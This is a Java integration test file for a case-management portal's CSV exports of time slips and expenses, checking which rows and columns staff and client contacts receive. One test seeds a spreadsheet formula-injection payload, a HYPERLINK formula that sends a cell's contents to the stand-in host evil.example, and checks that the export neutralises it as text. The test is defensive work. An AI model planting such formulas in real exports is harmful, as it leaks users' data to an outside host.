package org.caseport.reports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.apache.commons.csv.CSVRecord;
import org.caseport.access.PortalAction;
import org.caseport.access.PortalField;
import org.caseport.access.PortalSection;
import org.caseport.identity.Actor;
import org.caseport.shared.Visibility;
import org.caseport.support.Downloads;
import org.caseport.support.IntegrationTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;

/**
 * CSV exports of a case's time slips and expenses, through the pages: staff get every row and
 * column; a contact the shared rows and the columns their profile shows; a cell a spreadsheet would
 * run as a formula is made text; and a case with 10,000 time slips exports them all (streamed: the
 * rows are never held in a list, which no test of this size can tell — see docs/decisions.md).
 */
class CaseExportTest extends IntegrationTest {

    @Autowired
    JdbcClient jdbc;

    private Actor admin;
    private Actor lead;
    private long clientId;
    private long caseId;

    @BeforeEach
    void aCaseWithSharedAndInternalRows() {
        admin = data.admin();
        lead = data.investigator();
        clientId = data.client(admin);
        caseId = data.kaseFor(admin, clientId, lead.id(), new BigDecimal("1000"), null);
        data.note(lead, caseId, "Shared note, with a comma and \"quotes\"\nover two lines", "1.25", "80.00",
                Visibility.CLIENT);
        data.note(lead, caseId, "Internal note", "2.00", "95.00", Visibility.INTERNAL);
        data.expense(lead, caseId, "Shared expense", "42.10", Visibility.CLIENT);
        data.expense(lead, caseId, "Internal expense", "17.30", Visibility.INTERNAL);
    }

    @Test
    void staffExportEveryTimeSlipWithEveryColumn() throws Exception {
        MockHttpServletResponse response = export(admin, "/app/cases/" + caseId + "/export/time.csv");

        assertThat(response.getHeader("Content-Disposition")).startsWith("attachment").contains(".csv");
        assertThat(response.getContentType()).isEqualTo("text/csv;charset=UTF-8");
        List<CSVRecord> rows = Downloads.csv(response.getContentAsByteArray());
        assertThat(rows.get(0).values()).containsExactly("Date", "Staff", "Hours", "Rate", "Billable", "Amount",
                "Shared with client", "Recorded by Caseport", "Note");
        assertThat(rows).hasSize(3);
        assertThat(rows.get(1).values()).containsExactly(LocalDate.now().toString(), lead.displayName(), "1.25",
                "80.00", "yes", "100.00", "yes", "no", "Shared note, with a comma and \"quotes\"\nover two lines");
        assertThat(rows.get(2).values()).contains("Internal note", "190.00");
    }

    @Test
    void staffExportEveryExpenseWithEveryColumn() throws Exception {
        List<CSVRecord> rows = Downloads.csv(export(admin, "/app/cases/" + caseId + "/export/expenses.csv")
                .getContentAsByteArray());

        assertThat(rows.get(0).values()).containsExactly("Date", "Category", "Description", "Amount", "Billable",
                "Shared with client", "Recorded by");
        assertThat(rows).hasSize(3);
        assertThat(rows.get(2).values()).containsExactly(LocalDate.now().toString(), "Mileage", "Internal expense",
                "17.30", "yes", "no", lead.displayName());
    }

    @Test
    void aContactExportsTheSharedRowsWithTheColumnsTheirProfileShows() throws Exception {
        Actor contact = contactWith(Set.of(PortalField.NOTE_HOURS));
        String base = "/portal/cases/" + caseId + "/reports/export/";

        List<CSVRecord> notes = Downloads.csv(export(contact, base + "time.csv").getContentAsByteArray());
        List<CSVRecord> expenses = Downloads.csv(export(contact, base + "expenses.csv").getContentAsByteArray());

        assertThat(notes.get(0).values()).containsExactly("Date", "By", "Hours", "Note");
        assertThat(notes).hasSize(2);
        assertThat(notes.get(1).values()).containsExactly(LocalDate.now().toString(), lead.displayName(), "1.25",
                "Shared note, with a comma and \"quotes\"\nover two lines");
        assertThat(expenses.get(0).values()).containsExactly("Date", "Category", "Description");
        assertThat(expenses).hasSize(2);
        assertThat(expenses.get(1).values()).containsExactly(LocalDate.now().toString(), "Mileage", "Shared expense");
    }

    @Test
    void aContactSeesRatesAndAmountsOnlyWhereTheirProfileShowsThem() throws Exception {
        Actor contact = contactWith(Set.of(PortalField.NOTE_RATES, PortalField.EXPENSE_AMOUNTS));
        String base = "/portal/cases/" + caseId + "/reports/export/";

        List<CSVRecord> notes = Downloads.csv(export(contact, base + "time.csv").getContentAsByteArray());
        List<CSVRecord> expenses = Downloads.csv(export(contact, base + "expenses.csv").getContentAsByteArray());

        assertThat(notes.get(0).values()).containsExactly("Date", "By", "Rate", "Note");
        assertThat(notes.get(1).get(2)).isEqualTo("80.00");
        assertThat(expenses.get(0).values()).containsExactly("Date", "Category", "Description", "Amount");
        assertThat(expenses.get(1).get(3)).isEqualTo("42.10");
    }

    @Test
    void aContactExportsOnlyTheSectionsTheirProfileShows() throws Exception {
        long profile = data.portalProfile("Expenses only", EnumSet.of(PortalSection.EXPENSES, PortalSection.REPORTS),
                Set.of());
        jdbc.sql("update portal_profiles set actions = :actions where id = :id")
                .param("actions", new String[] {PortalAction.GENERATE_REPORT.name()}).param("id", profile).update();
        Actor contact = data.contact(clientId);
        data.grantAllCases(contact);
        data.useProfile(contact, profile);

        assertThat(Downloads.perform(mvc, get("/portal/cases/" + caseId + "/reports/export/time.csv")
                .with(data.signedIn(contact))).getResponse().getStatus()).isEqualTo(404);
        export(contact, "/portal/cases/" + caseId + "/reports/export/expenses.csv");
        assertThat(mvc.perform(get("/portal/cases/" + caseId + "/reports").with(data.signedIn(contact))).andReturn()
                .getResponse().getContentAsString()).contains("export-expenses").doesNotContain("export-time");
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasAreMadeText() throws Exception {
        data.note(lead, caseId, "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "1", "1", Visibility.CLIENT);
        data.expense(lead, caseId, "@SUM(A1:A9)", "1.00", Visibility.CLIENT);
        Actor contact = contactWith(Set.of());

        String staffFile = new String(export(admin, "/app/cases/" + caseId + "/export/time.csv")
                .getContentAsByteArray(), java.nio.charset.StandardCharsets.UTF_8);
        List<CSVRecord> contactNotes = Downloads.csv(export(contact,
                "/portal/cases/" + caseId + "/reports/export/time.csv").getContentAsByteArray());
        List<CSVRecord> contactExpenses = Downloads.csv(export(contact,
                "/portal/cases/" + caseId + "/reports/export/expenses.csv").getContentAsByteArray());

        assertThat(staffFile).contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Open\"\")\"");
        assertThat(contactNotes).extracting(row -> row.get(row.size() - 1))
                .contains("'=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")");
        assertThat(contactExpenses).extracting(row -> row.get(2)).contains("'@SUM(A1:A9)");
    }

    @Test
    void aCaseWithTenThousandTimeSlipsExportsThemAll() throws Exception {
        jdbc.sql("""
                        insert into time_slips (case_id, work_date, staff_id, hours, rate, billable, body, visibility)
                        select :caseId, date '2026-01-01' + (n % 365), :staffId, 0.25, 80.00, n % 2 = 0,
                               'Observation ' || n, case when n % 4 = 0 then 'CLIENT' else 'INTERNAL' end
                        from generate_series(1, 10000) n""")
                .param("caseId", caseId).param("staffId", lead.id()).update();
        Actor contact = contactWith(Set.of());

        List<CSVRecord> all = Downloads.csv(export(admin, "/app/cases/" + caseId + "/export/time.csv")
                .getContentAsByteArray());
        List<CSVRecord> shared = Downloads.csv(export(contact, "/portal/cases/" + caseId + "/reports/export/time.csv")
                .getContentAsByteArray());

        assertThat(all).hasSize(1 + 2 + 10_000);
        assertThat(all).extracting(row -> row.get(8)).contains("Observation 1", "Observation 10000");
        assertThat(shared).hasSize(1 + 1 + 2_500);
        assertThat(shared).extracting(row -> row.get(row.size() - 1)).doesNotContain("Observation 1", "Internal note")
                .contains("Observation 4", "Observation 10000");
    }

    private MockHttpServletResponse export(Actor actor, String path) throws Exception {
        MockHttpServletResponse response = Downloads.perform(mvc, get(path).with(data.signedIn(actor))).getResponse();
        assertThat(response.getStatus()).as("GET %s", path).isEqualTo(200);
        return response;
    }

    private Actor contactWith(Set<PortalField> fields) {
        long profile = data.portalProfile("Exports", EnumSet.of(PortalSection.NOTES, PortalSection.EXPENSES,
                PortalSection.REPORTS), fields);
        jdbc.sql("update portal_profiles set actions = :actions where id = :id")
                .param("actions", new String[] {PortalAction.GENERATE_REPORT.name()}).param("id", profile).update();
        Actor contact = data.contact(clientId);
        data.grantAllCases(contact);
        data.useProfile(contact, profile);
        return contact;
    }
}
